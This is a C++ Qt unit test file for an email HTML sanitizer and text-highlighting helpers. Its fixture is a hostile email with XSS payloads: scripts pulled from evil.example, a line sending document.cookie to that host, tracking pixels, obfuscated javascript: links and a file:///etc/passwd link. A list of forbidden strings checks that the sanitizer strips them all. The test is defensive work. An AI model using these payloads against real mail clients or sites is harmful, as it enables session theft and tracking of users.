// Email HTML made safe: whatever could load or run something is gone, the text and basic formatting stay,
// and plain text and transcripts become rich text with the driving words marked.

#include "text/HighlightedText.h"
#include "text/HtmlSanitizer.h"

#include <QtTest>

using namespace dp;

namespace {

// The malicious email of the HTML safety tests: every way an email could try to load or run something.
const QString kHostileEmail = QStringLiteral(
    "<html><head><title>Offer</title><style>body { background: url(http://evil.example/bg.png) }</style>"
    "<link rel=stylesheet href=http://evil.example/s.css><script src=http://evil.example/x.js></script>"
    "</head><body onload=\"steal()\">"
    "<p style=\"background-image: url('http://evil.example/track.gif')\">Hi Alison, the <b>budget</b> is "
    "approved.</p>"
    "<script>document.location='http://evil.example/?c='+document.cookie</script>"
    "<img src=\"http://evil.example/pixel.gif\" width=1 height=1>"
    "<img src=https://evil.example/logo.png alt=\"Acme logo\">"
    "<iframe src=\"http://evil.example/frame\">Frame text</iframe>"
    "<object data=http://evil.example/x.swf>Object text</object><embed src=http://evil.example/y.swf>"
    "<a href=\"javascript:alert(1)\">Click me</a> "
    "<a href=\"jav&#x09;ascript&#58;alert(2)\">Or me</a> "
    "<a href=\"https://acme.example/contract\" onclick=\"steal()\">the contract</a>"
    "<div onmouseover=\"steal()\">Regards, Dana</div>"
    "<svg><script>alert(3)</script></svg><form action=http://evil.example><input value=x></form>"
    "</body></html>");

} // namespace

class TestHtmlSanitizer : public QObject {
    Q_OBJECT

private slots:
    void removesEverythingThatLoadsOrRuns() {
        const QString safe = sanitizeEmailHtml(kHostileEmail);
        for (const char *forbidden :
             {"<script", "<style",  "<iframe",     "<object",    "<embed",      "<img",
              "<link",   "<svg",    "<form",       "<input",     "url(",        "javascript",
              "onload",  "onclick", "onmouseover", "style=",     "src=",        "evil.example",
              "steal",   "alert",   "cookie",      "Frame text", "Object text", "<title"})
            QVERIFY2(!safe.contains(QLatin1String(forbidden), Qt::CaseInsensitive), forbidden);
    }

    void keepsTheTextAndBasicFormatting() {
        const QString safe = sanitizeEmailHtml(kHostileEmail);
        QVERIFY(safe.contains(QLatin1String("<b>budget</b>")));
        QVERIFY(safe.contains(QLatin1String("<a href=\"https://acme.example/contract\">the contract</a>")));
        QVERIFY(safe.contains(QLatin1String("[Acme logo]"))); // an image's description stands in for it
        const QString text = htmlToPlainText(kHostileEmail);
        QVERIFY(text.contains(QLatin1String("Hi Alison, the budget is approved.")));
        QVERIFY(text.contains(QLatin1String("Click me")));
        QVERIFY(text.contains(QLatin1String("Or me")));
        QVERIFY(text.contains(QLatin1String("Regards, Dana")));
        QVERIFY(!text.contains(QLatin1String("Offer"))); // the head is not content
    }

    void linksOnlyToWebAndMail_data() {
        QTest::addColumn<QString>("html");
        QTest::addColumn<bool>("linked");
        QTest::newRow("https") << QStringLiteral("<a href=\"https://a.example/\">x</a>") << true;
        QTest::newRow("mailto") << QStringLiteral("<a href='mailto:dana@acme.example'>x</a>") << true;
        QTest::newRow("javascript") << QStringLiteral("<a href=\"JavaScript:alert(1)\">x</a>") << false;
        QTest::newRow("entity colon")
            << QStringLiteral("<a href=\"javascript&colon;alert(1)\">x</a>") << false;
        QTest::newRow("leading space") << QStringLiteral("<a href=\"  javascript:alert(1)\">x</a>") << false;
        QTest::newRow("vbscript") << QStringLiteral("<a href=vbscript:msgbox>x</a>") << false;
        QTest::newRow("data") << QStringLiteral("<a href=\"data:text/html,<script>alert(1)</script>\">x</a>")
                              << false;
        QTest::newRow("file") << QStringLiteral("<a href=\"file:///etc/passwd\">x</a>") << false;
    }
    void linksOnlyToWebAndMail() {
        QFETCH(QString, html);
        QFETCH(bool, linked);
        const QString safe = sanitizeEmailHtml(html);
        QCOMPARE(safe.contains(QLatin1String("<a ")), linked);
        QCOMPARE(htmlToPlainText(html), QStringLiteral("x"));
    }

    void survivesBrokenMarkup() {
        // Unclosed tags, a lone '<', an unterminated comment and attribute: nothing leaks, text stays.
        QCOMPARE(htmlToPlainText(u"<b>1 < 2 <i>and 3 > 2"), QStringLiteral("1 < 2 and 3 > 2"));
        QCOMPARE(sanitizeEmailHtml(u"<b>bold<i>both</b>"), QStringLiteral("<b>bold<i>both</i></b>"));
        QVERIFY(!sanitizeEmailHtml(u"ok<!-- <script>alert(1)</script>").contains(QLatin1String("script")));
        QVERIFY(!sanitizeEmailHtml(u"<script>alert(1)").contains(QLatin1String("alert")));
        QVERIFY(!sanitizeEmailHtml(u"<img src=\"http://evil.example/x").contains(QLatin1String("evil")));
        QVERIFY(!sanitizeEmailHtml(u"<SCRIPT>alert(1)</SCRIPT >after").contains(QLatin1String("alert")));
        QVERIFY(sanitizeEmailHtml(u"<SCRIPT>alert(1)</SCRIPT >after").contains(QLatin1String("after")));
        QCOMPARE(sanitizeEmailHtml(u"Fish &amp; chips &lt;b&gt; &copy; &bogus;"),
                 QStringLiteral("Fish &amp; chips &lt;b&gt; \u00a9 &amp;bogus;"));
    }

    void marksWordsInHtml() {
        SanitizeOptions options;
        options.positiveWords = {QStringLiteral("approved")};
        options.negativeWords = {QStringLiteral("freeze")};
        const QString safe = sanitizeEmailHtml(u"<p>Budget <b>Approved</b>, no freeze.</p>", options);
        QCOMPARE(safe, QStringLiteral("<p>Budget <b><span class=\"pos\">Approved</span></b>, no "
                                      "<span class=\"neg\">freeze</span>.</p>"));
    }

    void plainTextBecomesEscapedRichText() {
        const QString html = plainTextToHtml(u"Hi <Dana> & team,\nthis is great.",
                                             {{26, 5, 1.9}, {0, 2, -0.4}, {100, 3, -1.0}});
        QCOMPARE(html,
                 QStringLiteral("<div><span class=\"neg\">Hi</span> &lt;Dana&gt; &amp; team,<br>this is "
                                "<span class=\"pos\">great</span>.</div>"));
    }

    void transcriptSpeakersAreBold() {
        const QString transcript =
            QStringLiteral("Dana Ortiz (Acme): We love it.\nAlison Engel (Brightlane): Great!");
        const qsizetype love = transcript.indexOf(QLatin1String("love"));
        const QString html = transcriptToHtml(transcript, {{love, 4, 2.0}});
        QCOMPARE(html,
                 QStringLiteral("<p><b>Dana Ortiz (Acme):</b> We <span class=\"pos\">love</span> it.</p>"
                                "<p><b>Alison Engel (Brightlane):</b> Great!</p>"));
    }
};

QTEST_APPLESS_MAIN(TestHtmlSanitizer)
#include "test_html_sanitizer.moc"
